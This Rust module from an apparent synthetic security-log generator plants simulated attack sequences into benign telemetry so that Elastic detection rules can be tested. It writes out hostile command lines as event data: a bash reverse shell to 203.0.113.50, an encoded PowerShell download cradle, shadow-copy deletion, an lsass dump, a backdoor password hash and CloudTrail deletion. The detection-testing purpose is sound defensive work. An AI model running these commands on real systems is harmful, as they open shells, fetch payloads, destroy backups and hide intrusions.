//! Planted attacks: short event sequences that real Elastic rules detect, hidden in the benign
//! stream so that tests and benchmarks can check detection end to end.
//!
//! Each attack names the rules expected to fire on it: shrike's demo rules (paths starting with
//! `demo/`, in this repository) and Elastic's (other paths, relative to the
//! `elastic/detection-rules` repository). Other rules may fire too (attacks look like
//! attacks); the benign stream is built to stay clear of the listed ones.
//!
//! Planted events are never dropped to fit a block and never displaced by `--disorder`, so a
//! sequence keeps its order and its `maxspan`.

use crate::block::{Gen, Span};
use crate::catalog::{self, net, Dir, FileOp, Os, Program, RunAs, P};
use crate::render::cloud::{AwsIdentity, CloudEv};
use crate::render::{Conn, Ev, Logon, RegValue};
use crate::rng::Rng;
use crate::world::{self, PRef, Telemetry};
use crate::{Attacks, Config};

/// A kind of attack the generator can plant.
#[derive(Debug)]
pub struct AttackInfo {
    /// Short name (used by `--attack-kind` and in the truth file).
    pub name: &'static str,
    /// What is planted.
    pub summary: &'static str,
    /// Rules expected to fire: (rule name, path: `demo/...` in this repository, otherwise in
    /// `elastic/detection-rules`).
    pub rules: &'static [(&'static str, &'static str)],
}

/// Every attack kind, in the order attacks are planted (round robin).
pub const ATTACKS: &[AttackInfo] = &[
    AttackInfo {
        name: "remote_scheduled_task",
        summary: "an RPC connection accepted by the Task Scheduler's svchost.exe (both ports >= 49152) \
                  followed within seconds by that same process writing a new task's \
                  TaskCache\\Tasks\\{GUID}\\Actions registry value and its file under \
                  C:\\Windows\\System32\\Tasks (Windows, Sysmon or Defend)",
        rules: &[
            ("Remote Scheduled Task Creation", "rules/windows/lateral_movement_scheduled_task_target.toml"),
            ("Scheduled Task Written after an Inbound RPC Connection", "demo/rules/windows/lateral_movement_remote_task_then_file.toml"),
        ],
    },
    AttackInfo {
        name: "encoded_powershell",
        summary: "powershell.exe started by explorer.exe with -NoP -W Hidden -Enc <base64 download \
                  cradle>, connecting out over HTTP",
        rules: &[
            ("Suspicious Windows Powershell Arguments", "rules/windows/execution_windows_powershell_susp_args.toml"),
            ("PowerShell with an Encoded Command", "demo/rules/windows/execution_encoded_powershell.toml"),
        ],
    },
    AttackInfo {
        name: "lsass_access",
        summary: "an unsigned binary in C:\\Users\\Public opening lsass.exe with access 0x1010 \
                  (Sysmon event 10) and writing a dump file",
        rules: &[("Suspicious Lsass Process Access", "rules/windows/credential_access_suspicious_lsass_access_generic.toml")],
    },
    AttackInfo {
        name: "shadow_copy_delete",
        summary: "cmd.exe /c vssadmin.exe delete shadows /all /quiet",
        rules: &[("Volume Shadow Copy Deleted or Resized via VssAdmin", "rules/windows/impact_volume_shadow_copy_deletion_or_resized_via_vssadmin.toml")],
    },
    AttackInfo {
        name: "openssl_passwd",
        summary: "in an SSH session, openssl passwd -1 -salt ... (a password hash for a backdoor account), \
                  Linux with Defend or auditd",
        rules: &[("OpenSSL Password Hash Generation", "rules/linux/persistence_openssl_passwd_hash_generation.toml")],
    },
    AttackInfo {
        name: "office_child_shell",
        summary: "WINWORD.EXE opens a document and starts cmd.exe, which copies and runs a binary \
                  from a file share",
        rules: &[("Command Shell Spawned by an Office Application", "demo/rules/windows/execution_shell_spawned_by_office.toml")],
    },
    AttackInfo {
        name: "reverse_shell",
        summary: "a web application starts bash -i >& /dev/tcp/...; the shell connects out and runs \
                  id, whoami and uname within seconds (Linux with Defend)",
        rules: &[
            ("Reverse Shell Activity", "demo/rules/linux/execution_reverse_shell_sequence.toml"),
            ("Whoami Execution (KQL)", "demo/rules/cross-platform/discovery_whoami_kql.toml"),
        ],
    },
    AttackInfo {
        name: "sudo_bruteforce",
        summary: "four failed sudo authentications by one user within 20 seconds (Linux auth log)",
        rules: &[("Repeated sudo Failures", "demo/rules/linux/discovery_repeated_failed_sudo.toml")],
    },
    AttackInfo {
        name: "cloudtrail_deleted",
        summary: "an IAM user calls GetCallerIdentity, DescribeTrails, then DeleteTrail (success) from an \
                  unfamiliar address",
        rules: &[("AWS CloudTrail Log Deleted", "rules/integrations/aws/defense_evasion_cloudtrail_logging_deleted.toml")],
    },
];

/// One planted attack, as reported in the summary and the truth file.
#[derive(Clone, Debug)]
pub struct Planted {
    /// The attack kind ([`AttackInfo::name`]).
    pub attack: &'static str,
    /// Rules expected to fire.
    pub rules: &'static [(&'static str, &'static str)],
    /// `host.name` (empty for cloud attacks).
    pub host: String,
    /// `host.id` (empty for cloud attacks).
    pub host_id: String,
    /// Time of its first event (ms since the epoch).
    pub time: i64,
    /// `event.id` (and `_id` with `--wrap es`) of every planted event.
    pub event_ids: Vec<String>,
    pub(crate) first_line: u64,
    pub(crate) last_line: u64,
}

/// The attack kinds in use for `cfg` (all, or those named by `attack_kinds`).
pub(crate) fn kinds(cfg: &Config) -> Vec<&'static AttackInfo> {
    ATTACKS
        .iter()
        .filter(|a| cfg.attack_kinds.is_empty() || cfg.attack_kinds.iter().any(|k| k == a.name))
        .collect()
}

/// Stream positions of the attacks that fall in `span`: `(attack number, position)`.
pub(crate) fn in_span(cfg: &Config, span: Span) -> Vec<(u64, u64)> {
    let end = span.pos0 + span.len;
    let mut out = Vec::new();
    match cfg.attacks {
        Attacks::None => {}
        Attacks::Count(n) if n > 0 => {
            let total = cfg.expected_events().max(1);
            // Attack k sits at the middle of the k-th of n equal slices of the stream.
            let pos =
                |k: u64| ((2 * u128::from(k) + 1) * u128::from(total) / (2 * u128::from(n))) as u64;
            let first = (u128::from(span.pos0) * u128::from(n) / u128::from(total)) as u64;
            let mut k = first.saturating_sub(1);
            while k < n {
                let p = pos(k);
                if p >= end {
                    break;
                }
                if p >= span.pos0 {
                    out.push((k, p));
                }
                k += 1;
            }
        }
        Attacks::Every(m) if m > 0 => {
            let first = span.pos0.saturating_sub(m / 2) / m;
            let mut k = first;
            loop {
                let p = k * m + m / 2;
                if p >= end {
                    break;
                }
                if p >= span.pos0 {
                    out.push((k, p));
                }
                k += 1;
            }
        }
        _ => {}
    }
    out
}

const VSSADMIN: Program = Program {
    name: "vssadmin.exe",
    key: "vssadmin.exe",
    path: r"C:\Windows\System32\vssadmin.exe",
    original: "VSSADMIN.EXE",
    description: "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
    company: "Microsoft Corporation",
    product: "Microsoft® Windows® Operating System",
    version: "10.0.19041.1 (WinBuild.160101.0800)",
    signer: "Microsoft Windows",
    cmds: &["vssadmin.exe  delete shadows /all /quiet"],
    run_as: RunAs::User,
    ..P
};

const DUMPER: Program = Program {
    name: "wupdsvc.exe",
    key: "wupdsvc.exe",
    path: r"C:\Users\Public\Libraries\wupdsvc.exe",
    original: "wupdsvc.exe",
    description: "",
    company: "",
    product: "",
    version: "1.0.0.0",
    signer: "",
    cmds: &[r"C:\Users\Public\Libraries\wupdsvc.exe -o C:\Users\Public\Libraries\wup.dmp"],
    run_as: RunAs::User,
    ..P
};

const OPENSSL: Program = Program {
    name: "openssl",
    key: "openssl",
    path: "/usr/bin/openssl",
    cmds: &["openssl passwd -1 -salt xyz Sup3rS3cret!"],
    run_as: RunAs::User,
    cwd: "/home/{user}",
    ..P
};

/// UTF-16LE base64 of a PowerShell download cradle (what `-EncodedCommand` takes).
fn encoded_cradle() -> String {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/s.ps1')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    world::base64(&utf16)
}

/// Plants attack number `k` at about time `t`; `None` when no host fits it.
pub(crate) fn plant(g: &mut Gen<'_>, k: u64, t: i64) -> Option<Planted> {
    let kinds = kinds(g.cfg);
    if kinds.is_empty() {
        return None;
    }
    let info = kinds[(k % kinds.len() as u64) as usize];
    let mut pick = Rng::stream(g.cfg.seed ^ 0xA77A_C4ED, k);
    let w = g.w;
    let hosts_where = |f: &dyn Fn(&world::Host) -> bool| -> Vec<u32> {
        w.hosts
            .iter()
            .enumerate()
            .filter(|(_, h)| f(h))
            .map(|(i, _)| i as u32)
            .collect()
    };
    let windows_user = |h: &world::Host| h.os == Os::Windows && h.interactive().next().is_some();
    let candidates = match info.name {
        "remote_scheduled_task" => hosts_where(&|h| h.os == Os::Windows),
        "lsass_access" => hosts_where(&|h| windows_user(h) && h.telemetry == Telemetry::Sysmon),
        "encoded_powershell" | "shadow_copy_delete" | "office_child_shell" => {
            hosts_where(&windows_user)
        }
        "openssl_passwd" => hosts_where(&|h| h.os == Os::Linux && h.interactive().next().is_some()),
        "reverse_shell" => hosts_where(&|h| h.os == Os::Linux && h.telemetry == Telemetry::Defend),
        "sudo_bruteforce" => hosts_where(&|h| {
            h.os == Os::Linux && h.security_log && h.interactive().next().is_some()
        }),
        _ => Vec::new(),
    };
    let host = if info.name == "cloudtrail_deleted" {
        None
    } else {
        if candidates.is_empty() {
            return None;
        }
        Some(candidates[pick.index(candidates.len())])
    };
    // Keep the whole attack inside the block's time slice.
    let span = 8_000.min((g.t1 - g.t0) / 2).max(0);
    let t = t.min(g.t1 - 1 - span).max(g.t0);
    let step = (span / 8).max(1);

    g.planting = true;
    g.planted_ids.clear();
    match (info.name, host) {
        ("remote_scheduled_task", Some(h)) => remote_scheduled_task(g, h, t, step),
        ("encoded_powershell", Some(h)) => encoded_powershell(g, h, t, step),
        ("lsass_access", Some(h)) => lsass_access(g, h, t, step),
        ("shadow_copy_delete", Some(h)) => shadow_copy_delete(g, h, t, step),
        ("openssl_passwd", Some(h)) => openssl_passwd(g, h, t, step),
        ("office_child_shell", Some(h)) => office_child_shell(g, h, t, step),
        ("reverse_shell", Some(h)) => reverse_shell(g, h, t, step),
        ("sudo_bruteforce", Some(h)) => sudo_bruteforce(g, h, t, step),
        _ => cloudtrail_deleted(g, &mut pick, t, step),
    }
    g.planting = false;
    let (host_name, host_id) = host.map_or((String::new(), String::new()), |h| {
        let h = &w.hosts[h as usize];
        (h.name.clone(), h.id.clone())
    });
    Some(Planted {
        attack: info.name,
        rules: info.rules,
        host: host_name,
        host_id,
        time: t,
        event_ids: std::mem::take(&mut g.planted_ids),
        first_line: 0,
        last_line: 0,
    })
}

fn resident(g: &Gen<'_>, h: u32, key: &str) -> Option<PRef> {
    g.w.hosts[h as usize]
        .residents
        .iter()
        .position(|r| r.prog.key == key)
        .map(|i| PRef::Res(i as u32))
}

fn first_user(g: &Gen<'_>, h: u32) -> u16 {
    g.w.hosts[h as usize]
        .interactive()
        .next()
        .map_or(0, |(i, _)| i as u16)
}

fn remote_scheduled_task(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let Some(sched) = resident(g, h, "svchost.exe#schedule") else {
        return;
    };
    let attacker = g.internal_peer(h);
    let host_ip = g.w.hosts[h as usize].ip;
    let person = g.rng.index(g.w.people.len());
    let admin = format!("adm-{}", g.w.people[person].login);
    let sid = format!("{}-{}", g.w.domain_sid, 500 + person as u32);
    if g.w.hosts[h as usize].security_log {
        let l = Logon {
            code: 4624,
            logon_type: 3,
            user: &admin,
            user_sid: &sid,
            domain: net::NETBIOS,
            source: Some(attacker),
            workstation: "",
            kerberos: false,
            logon_id: 0x7A_3F11,
        };
        g.emit(h, t, &Ev::Logon(l), true);
    }
    let c = Conn {
        dir: Dir::Ingress,
        udp: false,
        src: attacker,
        sport: g.rng.range(49_152, 65_535) as u16,
        dst: host_ip,
        dport: g.rng.range(49_152, 65_535) as u16,
        end: false,
    };
    g.emit(h, t + 1, &Ev::Net(sched, c), true);
    let guid = g.expand_for(h, sched, "{guid}", t);
    let base = catalog::windows::TASK_CACHE;
    let name = "WindowsUpdateCheck";
    let tree = format!(r"{base}\Tree\{name}\Id");
    g.emit(
        h,
        t + 2 * step,
        &Ev::Reg(sched, &tree, RegValue::Sz(&guid)),
        true,
    );
    let path = format!(r"{base}\Tasks\{guid}\Path");
    let task_path = format!(r"\{name}");
    g.emit(
        h,
        t + 2 * step + 1,
        &Ev::Reg(sched, &path, RegValue::Sz(&task_path)),
        true,
    );
    let actions = format!(r"{base}\Tasks\{guid}\Actions");
    g.emit(
        h,
        t + 2 * step + 2,
        &Ev::Reg(sched, &actions, RegValue::Binary),
        true,
    );
    let task_file = format!(r"C:\Windows\System32\Tasks\{name}");
    g.emit(
        h,
        t + 2 * step + 3,
        &Ev::File(sched, FileOp::Create, &task_file),
        true,
    );
}

fn office_child_shell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let (Some(word), Some(cmd_prog)) = (
        catalog::program(Os::Windows, "WINWORD.EXE"),
        catalog::program(Os::Windows, "cmd.exe"),
    ) else {
        return;
    };
    let user = first_user(g, h);
    let explorer = resident(g, h, "explorer.exe");
    let doc = r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_2025-0311.docm" /o """#;
    let word = g.start_proc(h, word, explorer, t, Some(user), Some(doc));
    let cmd_line = r"C:\Windows\system32\cmd.exe /c copy \\fs01\public\upd.dat %TEMP%\upd.exe && %TEMP%\upd.exe";
    let cmd = g.start_proc(
        h,
        cmd_prog,
        Some(word),
        t + step,
        Some(user),
        Some(cmd_line),
    );
    g.emit(h, t + 2 * step, &Ev::ProcEnd(cmd, 0), true);
}

const REVSHELL: Program = Program {
    name: "bash",
    key: "bash#reverse",
    path: "/usr/bin/bash",
    cmds: &["bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"],
    run_as: RunAs::Service,
    cwd: "/tmp",
    ..P
};

const RECON: [Program; 3] = [
    Program {
        name: "id",
        key: "id",
        path: "/usr/bin/id",
        cmds: &["id"],
        run_as: RunAs::Service,
        cwd: "/tmp",
        ..P
    },
    Program {
        name: "whoami",
        key: "whoami",
        path: "/usr/bin/whoami",
        cmds: &["whoami"],
        run_as: RunAs::Service,
        cwd: "/tmp",
        ..P
    },
    Program {
        name: "uname",
        key: "uname",
        path: "/usr/bin/uname",
        cmds: &["uname -a"],
        run_as: RunAs::Service,
        cwd: "/tmp",
        ..P
    },
];

fn reverse_shell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let parent = resident(g, h, "java")
        .or_else(|| resident(g, h, "nginx"))
        .or_else(|| resident(g, h, "cron"));
    let host = &g.w.hosts[h as usize];
    let svc = host
        .accounts
        .iter()
        .position(|a| a.kind == RunAs::Service)
        .unwrap_or(0) as u16;
    let src = host.ip;
    static SHELL: Program = REVSHELL;
    let shell = g.start_proc(h, &SHELL, parent, t, Some(svc), None);
    let c = Conn {
        dir: Dir::Egress,
        udp: false,
        src,
        sport: g.rng.range(32_768, 60_999) as u16,
        dst: [203, 0, 113, 50],
        dport: 4444,
        end: false,
    };
    g.emit(h, t + 1, &Ev::Net(shell, c), true);
    static TOOLS: [Program; 3] = RECON;
    for (i, tool) in TOOLS.iter().enumerate() {
        let at = t + (i as i64 + 1) * step.min(2_000);
        let p = g.start_proc(h, tool, Some(shell), at, Some(svc), None);
        g.emit(h, at + 2, &Ev::ProcEnd(p, 0), true);
    }
}

fn sudo_bruteforce(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let user = first_user(g, h);
    let name = g.w.hosts[h as usize].accounts[user as usize].name.clone();
    let cwd = format!("/home/{name}");
    for i in 0..4 {
        let ev = Ev::Sudo {
            user: &name,
            ok: false,
            command: "",
            cwd: &cwd,
        };
        g.emit(h, t + i * step.min(5_000), &ev, true);
    }
}

fn encoded_powershell(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let Some(ps) = catalog::program(Os::Windows, "powershell.exe") else {
        return;
    };
    let parent = resident(g, h, "explorer.exe");
    let user = first_user(g, h);
    let cmd = format!(
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -NonI -W Hidden -enc {}"#,
        encoded_cradle()
    );
    let me = g.start_proc(h, ps, parent, t, Some(user), Some(&cmd));
    let c = Conn {
        dir: Dir::Egress,
        udp: false,
        src: g.w.hosts[h as usize].ip,
        sport: g.rng.range(49_152, 65_535) as u16,
        dst: [203, 0, 113, 77],
        dport: 80,
        end: false,
    };
    g.emit(h, t + step, &Ev::Net(me, c), true);
    g.emit(h, t + 3 * step, &Ev::ProcEnd(me, 0), true);
}

fn lsass_access(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let Some(lsass) = resident(g, h, "lsass.exe") else {
        return;
    };
    let Some(cmd_prog) = catalog::program(Os::Windows, "cmd.exe") else {
        return;
    };
    let user = first_user(g, h);
    let explorer = resident(g, h, "explorer.exe");
    let cmd = g.start_proc(
        h,
        cmd_prog,
        explorer,
        t,
        Some(user),
        Some(r"C:\Windows\system32\cmd.exe /c C:\Users\Public\Libraries\wupdsvc.exe -o C:\Users\Public\Libraries\wup.dmp"),
    );
    static DUMPER_PROG: Program = DUMPER;
    let tool = g.start_proc(h, &DUMPER_PROG, Some(cmd), t + step, Some(user), None);
    let trace = r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+7a3d|UNKNOWN(00007FF6A1B21A3C)";
    g.emit(
        h,
        t + 2 * step,
        &Ev::Access {
            src: tool,
            target: lsass,
            granted: "0x1010",
            trace,
        },
        true,
    );
    g.emit(
        h,
        t + 3 * step,
        &Ev::File(tool, FileOp::Create, r"C:\Users\Public\Libraries\wup.dmp"),
        true,
    );
    g.emit(h, t + 4 * step, &Ev::ProcEnd(tool, 0), true);
    g.emit(h, t + 4 * step + 5, &Ev::ProcEnd(cmd, 0), true);
}

fn shadow_copy_delete(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let Some(cmd_prog) = catalog::program(Os::Windows, "cmd.exe") else {
        return;
    };
    let user = first_user(g, h);
    let explorer = resident(g, h, "explorer.exe");
    let cmd = g.start_proc(
        h,
        cmd_prog,
        explorer,
        t,
        Some(user),
        Some(r#""C:\Windows\system32\cmd.exe" /c vssadmin.exe delete shadows /all /quiet"#),
    );
    static VSS: Program = VSSADMIN;
    let vss = g.start_proc(h, &VSS, Some(cmd), t + step, Some(user), None);
    g.emit(h, t + 2 * step, &Ev::ProcEnd(vss, 0), true);
    g.emit(h, t + 2 * step + 3, &Ev::ProcEnd(cmd, 0), true);
}

fn openssl_passwd(g: &mut Gen<'_>, h: u32, t: i64, step: i64) {
    let Some(bash) = catalog::program(Os::Linux, "bash#login") else {
        return;
    };
    let Some(sshd_session) = catalog::program(Os::Linux, "sshd#session") else {
        return;
    };
    let user = first_user(g, h);
    let sshd = resident(g, h, "sshd");
    let cmd = format!(
        "sshd: {} [priv]",
        g.w.hosts[h as usize].accounts[user as usize].name
    );
    let session = g.start_proc(h, sshd_session, sshd, t, Some(0), Some(&cmd));
    let shell = g.start_proc(h, bash, Some(session), t + 1, Some(user), None);
    static OSSL: Program = OPENSSL;
    let tool = g.start_proc(h, &OSSL, Some(shell), t + 2 * step, Some(user), None);
    g.emit(h, t + 2 * step + 3, &Ev::ProcEnd(tool, 0), true);
}

fn cloudtrail_deleted(g: &mut Gen<'_>, pick: &mut Rng, t: i64, step: i64) {
    let person = pick.index(g.w.people.len());
    let login = g.w.people[person].login.clone();
    let acct = g.w.aws_account.clone();
    let arn = format!("arn:aws:iam::{acct}:user/{login}");
    let key = format!("AKIA{:016X}", pick.next_u64() >> 1);
    let (a, b) = *pick.pick(net::CLIENT_NETS);
    let src = [a, b, pick.below(256) as u8, pick.range(1, 254) as u8];
    let agent = "aws-cli/2.15.30 Python/3.11.8 Windows/10 exe/AMD64 prompt/off command/cloudtrail.delete-trail";
    let calls: [(&str, &str, bool, String); 3] = [
        (
            "sts.amazonaws.com",
            "GetCallerIdentity",
            true,
            String::new(),
        ),
        (
            "cloudtrail.amazonaws.com",
            "DescribeTrails",
            true,
            "{includeShadowTrails=true}".to_string(),
        ),
        (
            "cloudtrail.amazonaws.com",
            "DeleteTrail",
            false,
            format!("{{name=arn:aws:cloudtrail:us-east-1:{acct}:trail/org-audit-trail}}"),
        ),
    ];
    for (i, (provider, action, read_only, params)) in calls.iter().enumerate() {
        let ev = CloudEv::Aws {
            provider,
            action,
            read_only: *read_only,
            params,
            region: "us-east-1",
            who: AwsIdentity {
                kind: "IAMUser",
                arn: &arn,
                name: &login,
                access_key: &key,
                account: &acct,
            },
            ok: true,
            src,
            agent,
        };
        g.emit_cloud(t + i as i64 * step, &ev, true);
    }
}
